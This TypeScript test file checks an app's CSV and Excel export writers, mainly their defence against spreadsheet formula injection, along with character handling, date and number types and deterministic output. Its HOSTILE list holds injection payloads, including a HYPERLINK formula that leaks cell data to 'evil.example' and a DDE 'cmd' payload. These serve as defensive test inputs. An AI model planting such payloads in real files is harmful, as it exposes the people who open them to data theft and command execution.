import { expect, test } from 'vitest';
import { readSpreadsheet } from '#app/delivery/spreadsheet/read-spreadsheet.ts';
import { writeCsv } from '#app/delivery/spreadsheet/write-csv.ts';
import { writeXlsx } from '#app/delivery/spreadsheet/write-xlsx.ts';
import type { Table, TableCell } from '#app/domain/exports/table.ts';
import type { Cell } from '#app/domain/imports/sheet/workbook.ts';
import { calendarDay } from '#app/domain/shared/calendar-day.ts';

const tableOf = (...rows: readonly (readonly TableCell[])[]): Table => ({
	name: 'Register',
	rows,
	headRows: 1,
	headColumns: 1,
});

async function cellsOf(bytes: Uint8Array): Promise<readonly Cell[]> {
	const read = await readSpreadsheet(bytes, 'register');
	if (!read.done) throw new Error(read.code);
	return read.value.sheets[0]!.cells;
}

const WRITERS = [
	['CSV', async (table: Table) => writeCsv(table)],
	['an Excel workbook', writeXlsx],
] as const;

/** What a spreadsheet program would work out, fetch or run if it stood in a cell as it is. */
const HOSTILE = [
	'=1+1',
	'=HYPERLINK("https://evil.example/?"&A1,"Click")',
	"=cmd|' /C calc'!A0",
	'+44 7700 900123',
	'-2+3',
	'@SUM(A1:A9)',
	'\t=1+1',
	'\r=1+1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(A1)',
];

test.each(WRITERS)('no cell of %s begins a formula, whatever was typed', async (_kind, write) => {
	const cells = await cellsOf(await write(tableOf(['Name'], ...HOSTILE.map((text) => [text]))));
	const written = cells.slice(1);
	expect(written).toHaveLength(HOSTILE.length);
	for (const [at, cell] of written.entries()) {
		expect(cell.isFormula, HOSTILE[at]).toBe(false);
		expect(cell.kind, HOSTILE[at]).toBe('text');
		expect(cell.text, HOSTILE[at]).toMatch(/^'/);
	}
});

test('a plain text, and a formula’s sign inside it, stay as they are', async () => {
	const texts = [
		"Siân O'Neill-Evans",
		'a = b',
		'Łukasz "Luke" Nowak',
		'two\nlines',
		'a,b;c',
		' spaced ',
		'ffi 😀',
		"'quoted",
	];
	for (const [, write] of WRITERS) {
		const cells = await cellsOf(await write(tableOf(...texts.map((text) => [text]))));
		expect(cells.map(({ text }) => text)).toEqual(texts);
	}
});

test.each(WRITERS)(
	'characters that no file can hold spoil neither it nor their neighbours in %s',
	async (_kind, write) => {
		const texts = [
			'a\u0000b',
			'a\u0007b',
			'a\ud83db',
			'a\udc00b',
			'a\ufffeb',
			'\u0000=1+1',
			'</t><t>b',
			'&lt;b',
			']]>b',
		];
		const cells = await cellsOf(await write(tableOf(...texts.map((text) => [text]))));
		const plain = ['ab', 'ab', 'ab', 'ab', 'ab', "'=1+1", '</t><t>b', '&lt;b', ']]>b'];
		expect(cells.map(({ text }) => text)).toEqual(plain);
	},
);

test('days and numbers keep their kind in a workbook, and are written as here in CSV', async () => {
	const table = tableOf([
		'Name',
		{ day: calendarDay('2026-03-04') },
		{ day: calendarDay('1999-12-31') },
		-5,
		0.25,
		null,
	]);
	const workbook = await cellsOf(await writeXlsx(table));
	expect(workbook.map(({ kind, day, value }) => day ?? `${kind} ${value}`)).toEqual([
		'text Name',
		'2026-03-04',
		'1999-12-31',
		'number -5',
		'number 0.25',
	]);
	expect(writeCsv(table).toString('utf8')).toBe('\ufeffName,04/03/2026,31/12/1999,-5,0.25,\r\n');
});

test('a CSV file carries the mark by which Excel reads it as UTF-8, and every row is as long as the longest', () => {
	const bytes = writeCsv(tableOf(['a'], ['b', 'c', 'd'], []));
	expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
	expect(bytes.toString('utf8')).toBe('\ufeffa,,\r\nb,c,d\r\n,,\r\n');
});

test.each(WRITERS)('the same table is the same bytes, whenever it is written, as %s', async (_kind, write) => {
	const table = tableOf(['Name', { day: calendarDay('2026-03-04') }], ['Alex', 'P']);
	const first = await write(table);
	await new Promise((resolve) => setTimeout(resolve, 2100));
	expect((await write(table)).equals(first)).toBe(true);
});

test('an empty table is a file all the same', async () => {
	expect((await writeXlsx(tableOf([]))).length).toBeGreaterThan(500);
	expect(writeCsv(tableOf([])).toString('utf8')).toBe('\ufeff\r\n');
});
